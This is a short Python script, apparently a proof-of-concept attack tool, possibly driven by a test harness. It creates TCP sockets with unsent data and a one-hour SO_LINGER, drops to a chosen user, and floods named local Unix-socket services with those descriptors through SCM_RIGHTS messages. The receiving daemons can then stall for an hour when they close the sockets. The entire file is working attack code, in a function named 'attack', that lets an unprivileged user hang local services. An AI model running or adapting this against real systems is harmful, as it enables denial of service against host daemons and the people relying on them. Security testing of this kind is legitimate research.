"""A process that passes descriptors to peers on its host: TCP sockets with unsent data, so that the last close()
waits for an hour. passer.py UID HELLO NAME...: connects to each local socket as that user; names outside the
file system begin with @. For each line of input it sends HELLO (hexadecimal, or -) and further messages, all with
descriptors, and has no copy of these afterwards. After each step it reports its progress, one line of JSON."""

import array
import json
import os
import socket
import struct
import sys

COUNT, LINGER_S, MESSAGES = 2, 3600, 20


def lingering():
    """Returns sockets with unsent data, and their other ends."""
    senders, receivers = [], []
    with socket.create_server(("127.0.0.1", 0)) as listener:
        for _ in range(COUNT):
            sender = socket.create_connection(listener.getsockname())
            receivers.append(listener.accept()[0])
            sender.setblocking(False)
            try:
                while True:
                    sender.send(bytes(1 << 16))
            except BlockingIOError:
                pass
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGER_S))
            senders.append(sender)
    return senders, receivers


def connect(name):
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(1)
    try:
        connection.connect(name.replace("@", "\0", 1))
        connection.recv(1)  # the peer accepts this user
    except OSError:
        return connection if connection.fileno() >= 0 and is_connected(connection) else None
    return connection


def is_connected(connection):
    try:
        return connection.getpeername() is not None
    except OSError:
        return False


def send(connection, data, senders):
    """Returns the number of messages with descriptors that it takes."""
    rights = array.array("i", [sender.fileno() for sender in senders])
    taken = 0
    try:
        for data in [data] + (MESSAGES - 1) * [b"x"]:
            connection.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            taken += 1
    except OSError:
        pass
    return taken


def attack(user, hello, names, senders):
    if user:
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
    connections = [connection for connection in map(connect, names) if connection]
    print(json.dumps(len(connections)), flush=True)
    sys.stdin.readline()
    print(json.dumps(sum(send(connection, hello, senders) for connection in connections)), flush=True)


def main():
    user, hello, names = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
    senders, receivers = lingering()
    child = os.fork()
    if child == 0:
        attack(user, b"x" if hello == "-" else bytes.fromhex(hello), names, senders)
        os._exit(0)  # closes without waiting
    for sender in senders:
        sender.close()
    os.waitpid(child, 0)
    print(json.dumps("closed"), flush=True)
    sys.stdin.read()
    del receivers


main()
